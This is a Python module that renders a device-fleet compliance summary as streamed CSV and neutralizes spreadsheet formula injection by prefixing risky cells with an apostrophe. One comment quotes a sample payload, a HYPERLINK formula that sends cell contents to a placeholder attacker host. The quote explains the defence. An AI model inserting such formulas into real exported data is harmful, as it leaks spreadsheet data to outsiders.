# -*- coding: utf-8 -*-
# Copyright: contributors to hardening.signal
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Render a fleet summary (schemas/fleet_summary.schema.json) as CSV, one row per subject and result.

Columns (CSV_COLUMNS): the subject (id, kind, platform, owner, source name,
state), the result (control, the control's section, status, reason,
observed and expected as JSON) and the expiry date of the waiver that
covers it, if any. A subject without any result (one that could not be
collected, when the summary carries no ``collection`` result for it) still
gets one row, with the control, section and status cells empty and its
error as the reason, so no subject is missing from the file.

RFC 4180 dialect (comma, double quotes, CRLF), UTF-8 without a byte-order
mark. iter_csv() yields the text in pieces of SUBJECTS_PER_CHUNK subjects,
so a 50,000-subject fleet is never held as one string.
"""

from __future__ import annotations

import csv
import io
import json

CSV_FILE = 'fleet-summary.csv'
CSV_COLUMNS = ('subject_id', 'kind', 'platform', 'owner', 'source', 'state', 'control', 'section', 'status',
               'reason', 'observed', 'expected', 'waiver_expires')
SUBJECTS_PER_CHUNK = 500

# Formula injection (CWE-1236): a spreadsheet that opens this file runs a cell starting with
# = + - @ as a formula (a leading tab or CR can hide such a character, so those count too). The
# data comes from devices and MDM exports that anyone may have named: an owner or a reason such
# as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run in the reader's spreadsheet,
# with the reader's rights. So every cell that comes from the data and starts with one of them
# gets a leading apostrophe, which spreadsheets take as "this is text" (OWASP's advice). A
# script reading the file sees the apostrophe; that is the price. It applies to the JSON cells
# too, where only a negative number can start with '-': it reads '-5.
_FORMULA_START = ('=', '+', '-', '@', '\t', '\r')


def cell(value):
    """One data value as a CSV cell: '' for None, neutralized if a spreadsheet would run it."""
    if value is None:
        return ''
    text = value if isinstance(value, str) else str(value)
    if text.startswith(_FORMULA_START):
        return "'" + text
    return text


# Compact JSON, keys sorted, non-ASCII kept. One encoder for the whole file: json.dumps would build
# one per call, for the two JSON cells of every row. The summary holds JSON data (it has passed the
# schema), which cannot be circular, so that check is off.
_encode = json.JSONEncoder(ensure_ascii=False, sort_keys=True, separators=(',', ':'), default=str,
                           check_circular=False).encode
_ABSENT = object()


def _waiver_expires(evidence):
    waiver = evidence.get('waiver') if isinstance(evidence, dict) else None
    return cell(waiver.get('expires')) if isinstance(waiver, dict) else ''


def _json_cell(value):
    # JSON text starts with { [ " a digit, t, f, n or '-': only a negative number needs the apostrophe.
    text = _encode(value)
    return "'" + text if text[:1] == '-' else text


def _rows(subject, cells):
    """The subject's rows. ``cells`` caches the cells of values that repeat: {control id: (control cell,
    section cell)} and {('status', status): status cell}."""
    source = subject.get('source') or {}
    head = [cell(subject.get('id')), cell(subject.get('kind')), cell(subject.get('platform')),
            cell(subject.get('owner')), cell(source.get('name')), cell(subject.get('state'))]
    results = subject.get('results') or ()
    if not results:
        return [head + ['', '', '', cell(subject.get('error')), '', '', '']]
    rows = []
    for result in results:
        control = result.get('control')
        known = cells.get(control)
        if known is None:
            known = cells[control] = (cell(control), '')
        status = ('status', result.get('status'))
        status_cell = cells.get(status)
        if status_cell is None:
            status_cell = cells[status] = cell(status[1])
        observed = result.get('observed', _ABSENT)
        expected = result.get('expected', _ABSENT)
        evidence = result.get('evidence')
        rows.append(head + [
            known[0], known[1], status_cell, cell(result.get('reason')),
            '' if observed is _ABSENT else _json_cell(observed),
            '' if expected is _ABSENT else _json_cell(expected),
            _waiver_expires(evidence) if evidence else ''])
    return rows


def iter_csv(summary):
    """render_csv(summary), the same text, in pieces of at most SUBJECTS_PER_CHUNK subjects."""
    cells = {}
    for control in summary.get('controls') or ():
        cells.setdefault(control.get('id'), (cell(control.get('id')), cell(control.get('section'))))
    buffer = io.StringIO()
    writer = csv.writer(buffer, dialect='excel', lineterminator='\r\n')
    writer.writerow(CSV_COLUMNS)
    subjects = summary.get('subjects') or ()
    for start in range(0, len(subjects), SUBJECTS_PER_CHUNK):
        for subject in subjects[start:start + SUBJECTS_PER_CHUNK]:
            writer.writerows(_rows(subject, cells))
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    rest = buffer.getvalue()
    if rest:
        yield rest


def render_csv(summary):
    """Return the fleet summary as CSV text (a str)."""
    return ''.join(iter_csv(summary))
